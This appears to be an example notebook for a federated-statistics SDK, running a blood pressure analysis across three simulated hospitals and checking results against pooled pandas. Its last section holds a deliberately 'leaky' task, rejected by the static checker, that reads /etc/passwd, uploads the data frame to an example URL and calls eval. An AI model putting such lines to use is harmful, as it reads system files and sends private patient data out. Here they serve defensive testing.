# %% [markdown]
# # Federated statistics across three hospitals
#
# Three hospitals each hold a table of patients: age, sex, BMI, smoking
# status and systolic blood pressure. They will not pool their records,
# but they will let a statistics task run on them, provided only securely
# aggregated sums leave the building.
#
# This notebook runs one `delta.Analytics` task, written in ordinary
# pandas, through `delta.debug` (what the network runs: the task packaged
# and checked as the hospitals check it, the real engine with its round
# rules and secure aggregation, the three hospitals simulated in this
# process), and checks every answer against pandas on the pooled data,
# which in real life nobody would be allowed to build. Then a hospital
# drops out mid-task, and a careless task is turned away by the static
# check every hospital runs before executing anything.
#
# Run it as a script (`python3 sdk/python/examples/federated_statistics.py`)
# or open it as a notebook with jupytext.

# %%
from __future__ import annotations

import inspect
import time
from typing import Any

import numpy as np
import pandas as pd
from blood_pressure import BMI_CLASSES, BloodPressureStudy  # the task: blood_pressure.py

import delta

pd.set_option("display.width", 120)
pd.set_option("display.precision", 6)


def section(title: str) -> None:
    print(f"\n{'=' * 78}\n{title}\n{'=' * 78}")


# %% [markdown]
# ## The hospitals' data
#
# Synthetic patients. Blood pressure rises with age and BMI and is higher
# in smokers; the hospitals differ in size and case mix (St Mary's is a
# geriatric centre). About 4% of BMI and 2% of blood pressure readings
# are missing.


# %%
def hospital(rows: int, seed: int, mean_age: float) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    age = np.clip(rng.normal(mean_age, 15.0, rows), 18, 99).round()
    sex = rng.choice(["F", "M"], rows)
    bmi = 22.0 + 0.06 * age + rng.normal(0.0, 4.0, rows)
    smoker = (rng.random(rows) < 0.25).astype(int)
    male = (sex == "M").astype(float)
    noise = rng.normal(0.0, 12.0, rows)
    sbp = 95.0 + 0.55 * age + 0.6 * bmi + 6.0 * smoker + 3.0 * male + noise
    frame = pd.DataFrame(
        {"age": age, "sex": sex, "bmi": bmi.round(1), "smoker": smoker, "sbp": sbp.round()}
    )
    frame.loc[rng.random(rows) < 0.04, "bmi"] = np.nan
    frame.loc[rng.random(rows) < 0.02, "sbp"] = np.nan
    return frame


HOSPITALS = {
    "Northside General": hospital(1200, seed=11, mean_age=48),
    "Riverside Clinic": hospital(700, seed=12, mean_age=42),
    "St Mary's": hospital(900, seed=13, mean_age=66),
}
frames = list(HOSPITALS.values())
pooled = pd.concat(frames, ignore_index=True)  # for checking only: nobody can build this

section("The data (each hospital keeps its own)")
for name, frame in HOSPITALS.items():
    print(f"{name:<18} {len(frame):>5} patients, mean age {frame['age'].mean():.1f}")
print("\nfirst rows at Northside General:")
print(HOSPITALS["Northside General"].head())


# %% [markdown]
# ## The task
#
# `execute` is pandas code on a *symbolic* frame: it runs once, at the
# requester, and describes what to compute. Each hospital only ever
# returns fixed-length sums (counts, sums, centred squares, counts below
# search thresholds), added up under secure aggregation.
#
# `levels` names the categories the requester wants (hospitals cannot sum
# strings), and `min_cell_count = 5` withholds any statistic computed
# from fewer than five patients.
#
# The task lives in its own module, `blood_pressure.py` beside this
# notebook: that file is what travels to the hospitals, and what they
# check and import. This notebook's other cells (the data, the checks
# against pandas) stay here.


# %%
print(inspect.getsource(BloodPressureStudy))


# %% [markdown]
# ## Run it through the engine
#
# `delta.debug` runs the task as the network would: it packages
# `blood_pressure.py` as `delta.Client.submit` does, each simulated
# hospital reads the package back and checks it, loads the task from it
# and answers the engine's requests through the task runner's protocol,
# and the real engine runs the rounds with one simulated member per frame.
# `report` receives the rounds and bytes carried.

# %%
section("Federated run: three hospitals")
report: dict[str, Any] = {}
started = time.perf_counter()
result = delta.debug(BloodPressureStudy(), data={"patients": frames}, report=report)
elapsed = time.perf_counter() - started
print(
    f"done in {elapsed:.2f} s: {report['rounds']} rounds, {report['bytes']:,} bytes carried, "
    f"{len(frames)} members"
)


# %% [markdown]
# ## The federated answer beside pandas on the pooled data
#
# Moments agree with pandas to about 1e-12; order statistics (min,
# quantiles, max) are exact data values, equal to pandas bit for bit.


# %%
def pandas_reference(data: pd.DataFrame) -> dict[str, Any]:
    """What the task computes, in pandas on a pooled frame."""
    cat = data.assign(
        sex=pd.Categorical(data["sex"], ["F", "M"]),
        smoker=pd.Categorical(data["smoker"], [0, 1]),
    )
    over_60 = data[data["age"] > 60]
    complete = data[["sbp", "age", "bmi", "smoker"]].dropna()
    design = np.column_stack([np.ones(len(complete)), complete[["age", "bmi", "smoker"]]])
    coef = np.linalg.lstsq(design, complete["sbp"].to_numpy(), rcond=None)[0]
    ages = pd.cut(data["age"], [18, 40, 60, 80, 100]).value_counts(sort=False)
    bmi = pd.cut(data["bmi"], BMI_CLASSES, right=False).value_counts(sort=False)
    return {
        "patients": len(data),
        "sbp": data["sbp"].describe(),
        "sbp by smoker": cat.groupby("smoker", observed=False)["sbp"].agg(["count", "mean", "std"]),
        "sbp by sex": cat.groupby("sex", observed=False)["sbp"].mean(),
        "hypertension share": (data["sbp"] >= 140).mean(),
        "hypertension share, over 60": (over_60["sbp"] >= 140).mean(),
        "sex x smoker": pd.crosstab(data["sex"], data["smoker"]),
        "age bands": ages,
        "bmi classes": bmi,
        "correlations": data[["age", "bmi", "sbp"]].corr(),
        "regression": pd.Series(coef, index=["Intercept", "age", "bmi", "smoker"]),
    }


def side_by_side(federated: Any, pandas: Any) -> pd.DataFrame:
    """Two answers as columns, with their difference."""
    f = federated if isinstance(federated, pd.Series) else federated.stack(future_stack=True)
    p = pandas if isinstance(pandas, pd.Series) else pandas.stack(future_stack=True)
    p.index = f.index
    out = pd.DataFrame({"federated": f.astype(float), "pooled pandas": p.astype(float)})
    out["|diff|"] = (out["federated"] - out["pooled pandas"]).abs()
    return out


def compare(
    federated: dict[str, Any], pandas: dict[str, Any], show: tuple[str, ...] | None = None
) -> float:
    """Prints each statistic (or those in `show`) beside pandas; returns the
    largest relative difference over every value not suppressed."""
    worst = 0.0
    for name, value in federated.items():
        want = pandas[name]
        if name == "regression":
            value = value["coef"]  # the OLS table also has std_err and t
        printing = show is None or name in show
        if printing:
            print(f"\n--- {name}")
        if isinstance(value, (int, float, np.number)):
            if printing:
                print(f"federated {float(value):.10g}   pooled pandas {float(want):.10g}")
            got, ref = np.array([float(value)]), np.array([float(want)])
        else:
            table = side_by_side(value, want)
            if printing:
                print(table.to_string())
            got, ref = table["federated"].to_numpy(), table["pooled pandas"].to_numpy()
        shown = ~np.isnan(got)  # NaN: a suppressed small cell
        relative = np.abs(got[shown] - ref[shown]) / np.maximum(np.abs(ref[shown]), 1e-300)
        worst = max(worst, float(np.nan_to_num(relative, nan=np.inf).max(initial=0.0)))
    return worst


section("Federated answer vs pandas on the pooled data")
worst = compare(result, pandas_reference(pooled))
print(f"\nlargest relative difference (suppressed cells aside): {worst:.2e}")
assert worst < 1e-9, "the federated answer should match pandas"

# %% [markdown]
# The last BMI class (40 and over) holds fewer than five patients, so it
# comes back as NaN (`min_cell_count`): small cells are withheld from the
# result, and `compare` above skipped them.
#
# The regression is a table with standard errors, as statsmodels gives:

# %%
section("OLS: sbp ~ age + bmi + smoker (federated)")
print(result["regression"])
print(result["regression"].attrs)

# %% [markdown]
# ## A hospital drops out
#
# Riverside Clinic loses its connection in round 1, before sending its
# masked sums. The engine finishes the round with the others; the task
# notices that the members changed mid-analysis and starts over with the
# two that remain, so the answer is exactly pandas on their pooled data.

# %%
section("Dropout: Riverside Clinic leaves in round 1")
report = {}
dropped = delta.debug(
    BloodPressureStudy(),
    data={"patients": frames},
    drop={1: (1, "before_masked")},
    report=report,
)
print(f"{report['rounds']} rounds (the plan restarted without the lost member)")
for line in report["progress"][5:9]:
    print("  engine:", line)
survivors = pd.concat([frames[0], frames[2]], ignore_index=True)
worst = compare(dropped, pandas_reference(survivors), show=("patients", "sbp by smoker"))
print(f"\nlargest relative difference vs pandas on the two survivors (all statistics): {worst:.2e}")
assert worst < 1e-9

# %% [markdown]
# ## A task the hospitals refuse
#
# Before running anything, every hospital checks the task's source
# statically. This one reads a file, uploads the frame and runs code from
# a string; the check names each problem with its line and column (the
# same check runs when you call `delta.package_task`, so authors see it
# first).

# %%
section("A rejected task source")
LEAKY_TASK = """\
import delta
import pandas as pd


class Leaky(delta.Analytics):
    dataset = "patients"

    def execute(self, df):
        secrets = pd.read_csv("/etc/passwd")
        df.to_csv("https://example.com/upload")
        return eval("df['sbp'].mean()")
"""
for violation in delta.check_source(LEAKY_TASK, "leaky.py"):
    print(" ", violation)

FINE_TASK = """\
import delta


class Fine(delta.Analytics):
    dataset = "patients"

    def execute(self, df):
        return df["sbp"].mean()
"""
print("a plain statistics task:", delta.check_source(FINE_TASK, "fine.py") or "accepted")

# %%
section("Done")
print("every federated answer matched pandas on the pooled data")
